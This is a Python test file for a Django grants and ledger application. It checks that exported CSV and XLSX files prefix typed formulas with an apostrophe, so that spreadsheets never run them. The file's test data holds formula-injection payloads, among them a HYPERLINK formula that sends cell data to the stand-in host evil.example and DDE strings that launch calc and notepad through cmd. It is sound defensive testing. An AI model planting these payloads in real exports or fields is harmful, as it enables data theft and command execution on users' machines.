"""Every export keeps a typed formula as text (issue 11).

A value that begins with = + - @ tab or CR is stored exactly as it was typed, and leaves the
application as text: prefixed with ' in both the CSV and the XLSX download, so a spreadsheet
never runs it. One test per export: cases, grants, ledger entries and reconciliation.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from bondfund.models import AllocationKind
from bondfund.services import program_budget_change
from core.models import Beneficiary, PartnerOrganization
from core.services import beneficiary_update
from grants import services as grant_services
from grants.models import GrantApplication, PayeeKind
from ledger.models import Transfer
from tests.bondfund.factories import make_program, make_request, usd
from tests.documents_helpers import URLS, streamed, xlsx_cells
from tests.grants.factories import make_program as make_grant_program
from tests.helpers import sign_in

pytestmark = [pytest.mark.urls(URLS)]

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
CASES = pytest.mark.parametrize("formula", list(FORMULAS.values()), ids=list(FORMULAS))


def downloads(client, url_name):
    """(CSV rows, XLSX rows) of one export, read back as a spreadsheet would."""
    body = streamed(client.get(reverse(url_name, args=["csv"]))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    response = client.get(reverse(url_name, args=["xlsx"]))
    assert response.status_code == 200
    return rows, xlsx_cells(response.content)


def column(rows, index):
    return [row[index] for row in rows[1:]]


def as_read_from_xlsx(text):
    """An XML parser reads a bare CR inside a cell as LF; the leading ' is what protects."""
    return text.replace("\r", "\n")


@CASES
def test_cases_export_keeps_a_typed_formula_as_text(client, world, formula):
    beneficiary_update(actor=world.officer_a, beneficiary_id=world.ben_a.pk,
                       given_names=formula)
    assert Beneficiary.objects.get(pk=world.ben_a.pk).given_names == formula
    make_request(world, make_program(world))
    sign_in(client, world.officer_a)
    rows, cells = downloads(client, "bondfund:requests_export")
    expected = f"'{formula} {world.ben_a.family_names}"
    assert column(rows, 3) == [expected]  # the beneficiary's name
    assert column(cells, 3) == [as_read_from_xlsx(expected)]


@CASES
def test_grants_export_keeps_a_typed_formula_as_text(client, world, formula):
    program = make_grant_program(world)
    application = grant_services.grant_application_create(
        actor=world.officer_a, beneficiary=world.ben_a, program=program,
        amount=Decimal("800"), purpose="Apoyo urgente", payee_kind=PayeeKind.FAMILY_MEMBER,
        payee_name=formula, payee_account="BANK-001")
    # The payee's name is trimmed as every form field is; the formula itself is kept.
    stored = GrantApplication.objects.get(pk=application.pk).payee_name
    assert stored == formula.strip() and stored[:1] in "=+-@"
    sign_in(client, world.officer_a)
    rows, cells = downloads(client, "grants:applications_export")
    assert column(rows, 8) == ["'" + stored]  # the payee
    assert column(cells, 8) == ["'" + stored]


@CASES
def test_ledger_entries_export_keeps_a_typed_memo_as_text(client, world, formula):
    program = make_program(world)
    program_budget_change(actor=world.admin, program_id=program.pk,
                          kind=AllocationKind.CONSULATE, amount=usd(1_000),
                          consulate=world.consulate_a, memo=formula)
    assert Transfer.objects.filter(memo=formula).count() == 1
    sign_in(client, world.approver_a)
    rows, cells = downloads(client, "ledger:transfers_export")
    assert column(rows, 9).count("'" + formula) == 1  # the memo
    assert column(cells, 9).count(as_read_from_xlsx("'" + formula)) == 1
    for row in cells[1:]:  # nothing else in the sheet starts a formula either
        assert not any(isinstance(v, str) and v[:1] in "=+-@\t\r" for v in row)


@CASES
def test_reconciliation_export_keeps_a_typed_partner_name_as_text(client, world, formula):
    PartnerOrganization.objects.filter(pk=world.partner_x.pk).update(name=formula)
    assert PartnerOrganization.objects.get(pk=world.partner_x.pk).name == formula
    make_program(world)
    sign_in(client, world.approver_a)
    rows, cells = downloads(client, "ledger:reconciliation_export")
    assert "'" + formula in column(rows, 3)  # the partner
    assert as_read_from_xlsx("'" + formula) in column(cells, 3)
    assert not {formula, as_read_from_xlsx(formula)} & set(column(rows, 3) + column(cells, 3))


def test_exports_leave_amounts_and_dates_as_numbers(client, world):
    """Only text is prefixed: an amount stays a number and a time a date cell."""
    program = make_program(world)
    program_budget_change(actor=world.admin, program_id=program.pk,
                          kind=AllocationKind.CONSULATE, amount=usd(250),
                          consulate=world.consulate_a, memo="Ajuste de noviembre")
    sign_in(client, world.approver_a)
    _rows, cells = downloads(client, "ledger:transfers_export")
    memo_rows = [row for row in cells[1:] if row[9] == "Ajuste de noviembre"]
    assert [row[5] for row in memo_rows] == [250]
    assert isinstance(memo_rows[0][0], datetime.datetime)
